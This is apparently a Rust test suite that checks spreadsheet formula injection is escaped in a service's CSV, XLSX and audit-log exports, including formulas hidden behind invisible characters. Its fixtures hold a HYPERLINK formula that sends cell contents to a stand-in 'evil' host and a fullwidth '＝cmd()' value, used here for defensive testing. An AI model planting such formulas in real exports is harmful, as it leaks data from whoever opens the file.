//! Text in exports that a spreadsheet would run as a formula.
use super::make;
use crate::support::{Client, World};
use calamine::{Reader, Xlsx};
use reqwest::Method;
use serde_json::json;
use std::io::{Cursor, Read};
use uuid::Uuid;

const SQL: &str =
    "select '=HYPERLINK(\"http://evil/?\"&A1)' as \"=1+1\", '@SUM(1)' as \"+a\", '-1' as b, '-A1' as c, -2 as d";

async fn query(world: &World) -> Uuid {
    let body = json!({"name": "Evil", "datasourceID": world.id("datasourceID"), "options": {"sql": SQL}});
    make(&world.client, "data-queries", body).await
}

async fn file(client: &Client, query: Uuid, options: &str) -> Vec<u8> {
    let answer = client.call(Method::POST, &format!("data-queries/{query}/export?{options}")).open().await;
    assert_eq!(answer.status(), 200);
    answer.bytes().await.unwrap().to_vec()
}

#[tokio::test]
async fn a_csv_export_escapes_formulas_unless_asked_to_keep_them() {
    let world = World::full().await;
    let query = query(&world).await;
    let text = async |options: &str| String::from_utf8(file(&world.client, query, options).await).unwrap();
    let escaped = "'=1+1,'+a,b,c,d\n\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\",'@SUM(1),-1,'-A1,-2\n";
    for options in ["", "format=csv", "format=csv&formulas=escape"] {
        assert_eq!(text(options).await, escaped);
    }
    assert_eq!(text("format=csv&formulas=keep").await, escaped.replace('\'', ""));
    let row: serde_json::Value = serde_json::from_str(&text("format=ndjson").await).unwrap();
    assert_eq!(row["+a"], "@SUM(1)", "NDJSON is for programs and must not be escaped");
    world
        .client
        .post(&format!("data-queries/{query}/export?formulas=run"), json!({}))
        .await
        .refused(400, "INVALID_REQUEST");
}

#[tokio::test]
async fn invisible_characters_do_not_hide_a_formula() {
    let world = World::full().await;
    let hidden = ["\u{feff}", "\u{200b}", "\u{ad}", "\u{202e}", "\u{1}", " \u{2060}\t"];
    for start in hidden {
        let sql = format!("select '{start}=1' as a");
        let body =
            json!({"name": format!("{start:?}"), "datasourceID": world.id("datasourceID"), "options": {"sql": sql}});
        let query = make(&world.client, "data-queries", body).await;
        let text = String::from_utf8(file(&world.client, query, "format=csv").await).unwrap();
        assert!(text.trim_start_matches("a\n").trim_start_matches('"').starts_with('\''), "{start:?}: {text:?}");
    }
}

/// The cells of the only sheet, the sheet's XML and the styles' XML.
fn opened(bytes: Vec<u8>) -> (Vec<Vec<String>>, String, String) {
    let mut book = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    let name = book.sheet_names()[0].clone();
    let rows = book.worksheet_range(&name).unwrap();
    let rows = rows.rows().map(|row| row.iter().map(ToString::to_string).collect()).collect();
    let mut parts = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut part = |name: &str| {
        let mut text = String::new();
        parts.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    };
    (rows, part("xl/worksheets/sheet1.xml"), part("xl/styles.xml"))
}

#[tokio::test]
async fn an_xlsx_export_marks_formulas_as_text() {
    let world = World::full().await;
    let query = query(&world).await;
    let (rows, sheet, styles) = opened(file(&world.client, query, "format=xlsx").await);
    assert_eq!(rows[0], ["=1+1", "+a", "b", "c", "d"]);
    assert_eq!(rows[1], ["=HYPERLINK(\"http://evil/?\"&A1)", "@SUM(1)", "-1", "-A1", "-2"]);
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
    let cell = |name: &str| sheet.split("<c ").find(|cell| cell.starts_with(&format!("r=\"{name}\""))).unwrap();
    for formula in ["A1", "B1", "A2", "B2", "D2"] {
        assert!(cell(formula).contains(" s=\""), "{}", cell(formula));
    }
    assert!(!cell("C2").contains(" s=\""), "{}", cell("C2"));
    let (_, _, styles) = opened(file(&world.client, query, "format=xlsx&formulas=keep").await);
    assert!(!styles.contains("quotePrefix"), "{styles}");
}

#[tokio::test]
async fn exports_of_the_audit_log_escape_formulas_too() {
    let world = World::full().await;
    world.client.post("roles", json!({"name": "\u{ff1d}cmd()", "permissions": []})).await.expect(201);
    let log = async |options: &str| world.client.get(&format!("audit-logs?action=role.create&{options}")).await.text;
    assert!(log("format=csv").await.contains(",'\u{ff1d}cmd(),"));
    assert!(log("format=csv&formulas=keep").await.contains(",\u{ff1d}cmd(),"));
}
